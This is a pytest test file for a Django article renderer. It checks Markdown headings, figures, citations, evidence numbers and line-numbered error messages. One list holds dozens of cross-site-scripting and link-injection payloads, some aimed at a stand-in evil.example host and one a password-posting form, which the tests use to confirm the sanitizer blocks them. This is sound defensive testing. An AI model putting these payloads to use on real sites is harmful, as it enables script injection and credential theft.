"""The text of an article: what it may hold, what is refused with a line that says where, and what never passes."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.template.loader import render_to_string
from django.utils import translation
from django.utils.formats import get_format
from hypothesis import given, settings
from hypothesis import strategies as st

from builders.articles import BODY
from supple.evidence import figure
from supple_web.library.text import Text, problems_of, read
from supple_web.library.text.safe import safe

EVERY = {"linear-first"}
#: Tags of the text, not of its drawings.
ALLOWED = {
    *("p", "h2", "h3", "h4", "ul", "ol", "li", "blockquote", "strong", "em", "code", "pre", "br", "hr", "a", "span"),
    *("table", "thead", "tbody", "tr", "th", "td", "div"),
}
ATTRIBUTES = {"href", "rel", "class", "id", "start", "scope", "tabindex", "role", "aria-label"}


def knows(slug: str) -> bool:
    return slug in EVERY


def html_of(text: Text) -> str:
    return "".join(block.html or "" for block in text.blocks)


def problem(body: str) -> str:
    (found,) = problems_of(body, knows=knows)
    return str(found)


class Seen(HTMLParser):
    """Every tag and attribute of what is shown."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")


def assert_harmless(html: str) -> None:
    for tag, attributes in Seen(html).found:
        assert tag in ALLOWED, tag
        assert set(attributes) <= ATTRIBUTES, attributes
        href = attributes.get("href")
        if href is not None:
            assert href.startswith(("https://", "/", "#")), href
            assert not href.startswith(("//", "/\\")), href


class TestWhatItGives:
    def test_headings_are_the_contents_and_can_be_led_to(self):
        text = read(BODY, "en")
        assert [(one.words, one.level) for one in text.contents] == [("How much", 2), ("A table", 3)]
        assert f'<h2 id="{text.contents[0].anchor}">How much</h2>' in html_of(text)

    def test_headings_of_the_same_words_have_anchors_of_their_own(self):
        anchors = [one.anchor for one in read("## Why\n\n## Why\n\n## Why\n", "en").contents]
        assert len(set(anchors)) == 3

    def test_a_picture_of_the_science_moves_and_has_words(self):
        (block,) = [one for one in read(BODY, "en").blocks if one.picture]
        assert block.alt == "Somebody rounds and arches the back"
        assert block.caption == "Cat and camel"
        assert block.picture.moves
        assert "<animate" in block.picture.svg

    @pytest.mark.parametrize(
        "spec",
        [
            *("exercise/open-book", "exercise/open-book?side=right", "stills/open-book", "howto/lumbar-locked"),
            *("dial/stiff", "dial/control", "dial/painful", "trend/rotation", "sides/rotation"),
        ],
    )
    def test_every_kind_of_picture_is_drawn(self, spec: str):
        text = read(f"![What one sees](figure:{spec})", "en")
        assert not text.problems
        assert text.blocks[0].picture.svg.startswith("<svg")

    def test_the_other_side_is_another_drawing(self):
        left, right = (read(f"![x](figure:exercise/open-book?side={side})", "en").blocks[0] for side in ("left", "right"))
        assert left.picture.svg != right.picture.svg

    def test_ids_of_two_pictures_differ(self):
        text = read("![a](figure:exercise/open-book)\n\n![b](figure:exercise/open-book)\n", "en")
        ids = [attributes["id"] for block in text.blocks for _, attributes in Seen(block.picture.svg).found if "id" in attributes]
        assert len(ids) == len(set(ids)) > 2

    def test_a_citation_says_source_and_strength_and_leads_to_its_place(self):
        html = html_of(read("More [@heneghan18_active].", "en"))
        assert 'href="/sources#heneghan18_active"' in html
        assert "Heneghan 2018, read in source" in html

    def test_a_convention_is_called_one(self):
        html = html_of(read("Three times [@convention], held [@own:hold].", "en"))
        assert html.count('href="/sources#own-numbers"') == 2
        assert html.count("convention of this project") == 2

    def test_the_same_source_twice_in_one_place_is_said_once(self):
        assert html_of(read("Both [@edm_flex; @edm_ext].", "en")).count("Edmondston 2011") == 1

    def test_every_source_stands_once_at_the_end(self):
        sources = read("a [@edm_flex] b [@morita_total] c [@edm_ext] d [@convention] e [@own:hold]", "en").sources
        assert [one.anchor for one in sources] == ["edmondston2011", "morita2014", "own-numbers"]
        assert sources[0].url.startswith("https://")
        assert sources[0].strengths == ("read in source",)

    def test_a_number_is_that_of_the_evidence(self):
        mean, spread = figure("morita_total").numbers
        html = html_of(read("{{ev:morita_total.1}} ± {{ev:morita_total.2}} degrees, {{ev:morita_total}} [@morita_total]", "en"))
        assert f"{mean:g} ± {spread:g} degrees, {mean:g}; {spread:g} degrees" in html

    def test_a_number_is_written_as_its_language_does(self):
        html = html_of(read("{{ev:morita_total}} [@morita_total]", "es"))
        with translation.override("es"):
            numbers = [f"{number:g}".replace(".", get_format("DECIMAL_SEPARATOR")) for number in figure("morita_total").numbers]
        assert f"{'; '.join(numbers)} grados" in html

    def test_numbers_of_the_program(self):
        html = html_of(read("More than {{own:hold}} [@own:hold].", "en"))
        assert "More than 2 minutes" in html

    def test_links_of_its_own(self):
        html = html_of(read("[a](article:linear-first#s-why) [b](exercise:open-book) [c](/sources) [d](#s-x)", "en"))
        for href in ("/library/linear-first#s-why", "/library/exercise/open-book", "/sources", "#s-x"):
            assert f'href="{href}"' in html

    def test_plain_words_hold_everything_for_search_and_no_sign(self):
        plain = read(BODY, "en").plain
        assert "Bending comes first." in plain
        assert "31.7 degrees." in plain
        assert not set("[]{}|#") & set(plain)

    def test_code_stands_as_it_was_written(self):
        assert "<pre><code>a &lt; b\n</code></pre>" in html_of(read("```\na < b\n```\n", "en"))
        assert "[@x]" in html_of(read("`[@x]`", "en"))


class TestWhatIsRefused:
    @pytest.mark.parametrize(
        ("body", "words"),
        [
            ("one\n\ntwo [@heneghan18_activ]", "Line 3: no source “heneghan18_activ”; did you mean “heneghan18_active”?"),
            ("one\ntwo [@nothing-like-this]", "Line 2: no source “nothing-like-this”"),
            ("{{ev:morita_totl}} [@morita_total]", "Line 1: no number “ev:morita_totl”; did you mean “morita_total”?"),
            ("{{ev:morita_total.3}} [@morita_total]", "Line 1: no number “ev:morita_total.3”"),
            ("{{something}}", "Line 1: no number “something”"),
            ("{{ev:morita_total.1}} degrees", "Line 1: the number “ev:morita_total.1” without its source; write [@morita_total]"),
            ("![x](figure:exercise/nothing)", "Line 1: no picture “figure:exercise/nothing”; there are exercise/"),
            ("![x](figure:nothing/open-book)", "Line 1: no picture “figure:nothing/open-book”; there are exercise/…"),
            ("![](figure:exercise/open-book)", "Line 1: a picture without words"),
            ("so ![x](figure:exercise/open-book) so", "Line 1: a picture inside other text"),
            ("- ![x](figure:exercise/open-book)", "Line 1: a picture inside other text"),
            ("![x](https://example.org/a.png)", "Line 1: the picture “https://example.org/a.png”; only own drawings"),
            ("[a](http://example.org)", "Line 1: the link “http://example.org”; a link begins with https://"),
            ("[a](javascript:alert)", "Line 1: the link “javascript:alert”"),
            ("[a](//evil.example)", "Line 1: the link “//evil.example”"),
            ("[a](article:nothing)", "Line 1: no article “nothing”"),
            ("[a](exercise:nothing)", "Line 1: no exercise “nothing”"),
            ("one\n\n# Big", "Line 3: a heading of this level"),
        ],
    )
    def test_one_line_says_where_and_what(self, body: str, words: str):
        assert problem(body).startswith(words)

    def test_a_source_beside_the_number_may_be_its_publication(self):
        assert problems_of("{{ev:morita_total.1}} degrees [@morita2014]", knows=knows) == ()

    def test_a_citation_in_another_paragraph_does_not_count(self):
        assert "without its source" in problem("{{ev:morita_total.1}} degrees\n\nso [@morita_total]")

    def test_everything_wrong_is_told_at_once(self):
        assert len(problems_of("[@a] [@b]\n\n# C\n\n![d](e)", knows=knows)) == 4

    def test_what_is_right_has_no_problem(self):
        assert problems_of(BODY, knows=knows) == ()


#: What people put into Markdown to get a script, a style, a frame or a request to elsewhere onto a page.
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed' onclick='alert(1)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action='https://evil.example'><input name=password></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<!-- comment --><!DOCTYPE html><![CDATA[x]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](http://evil.example)",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example" onmouseover="alert(1))',
    "[x](/sources'onclick='alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](figure:exercise/open-book)',
    '![x](figure:exercise/open-book?side=left"onload="alert(1))',
    "![x](figure:../../etc/passwd)",
    "<javascript:alert(1)>",
    '<https://evil.example/"onclick="alert(1)>',
    "[@<script>alert(1)</script>]",
    '[@x"><script>alert(1)</script>]',
    "{{<script>alert(1)</script>}}",
    "{{ev:<img src=x onerror=alert(1)>}}",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "## <script>alert(1)</script>",
    '## x" onclick="alert(1)',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "| <b onclick=alert(1)>a</b> |\n|:-:|\n| b |",
    "> <script>alert(1)</script>",
    "1. <script>\n2. alert(1)\n3. </script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e<script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="https://evil.example" target="_blank" ping="https://evil.example">x</a>',
    "*" * 3000 + "a" + "*" * 3000,
    "[" * 2000,
    "> " * 400 + "x",
]


class TestAttacks:
    @pytest.mark.parametrize("body", ATTACKS, ids=range(len(ATTACKS)))
    def test_nothing_of_it_passes(self, body: str):
        html = html_of(read(body, "en"))
        assert_harmless(html)
        assert "<script" not in html.lower()

    @pytest.mark.parametrize("body", ATTACKS, ids=range(len(ATTACKS)))
    def test_nor_through_the_whole_page_part(self, body: str):
        page = render_to_string("library/_text.html", {"text": read(body, "en")})
        assert "<script" not in page.lower()
        for _, attributes in Seen(page).found:
            assert not [name for name in attributes if name.startswith("on") or name == "style"], attributes

    @pytest.mark.parametrize(
        "html",
        [
            "<script>alert(1)</script><p>x</p>",
            "<p onclick=alert(1) style='color:red'>x</p>",
            "<a href='//evil.example'>x</a><a href='/\\evil'>x</a><a href='javascript:alert(1)'>x</a>",
            "<img src=x onerror=alert(1)><svg><use href='#x'/></svg>",
            "<h2 id='\"><script>'>x</h2><ol start='1;2'><li>x</ol>",
            "<div class='foot scroll' role='region'>x</div><span class='top sources'>x</span>",
        ],
    )
    def test_the_gate_holds_by_itself(self, html: str):
        """Whatever the parser might let through one day."""
        assert_harmless(safe(html))

    def test_classes_that_the_pages_have_cannot_be_borrowed(self):
        assert safe("<span class='top sources foot'>x</span>") == '<span class="sources">x</span>'

    @settings(max_examples=60, deadline=None)
    @given(st.text(alphabet="<>\"'&#/[](){}!@:;=- \n|`*_\\xajsfigure.1é", max_size=120))
    def test_whatever_is_typed(self, body: str):
        text = read(body, "en")
        assert_harmless(html_of(text))
        assert isinstance(problems_of(body, knows=knows), tuple)
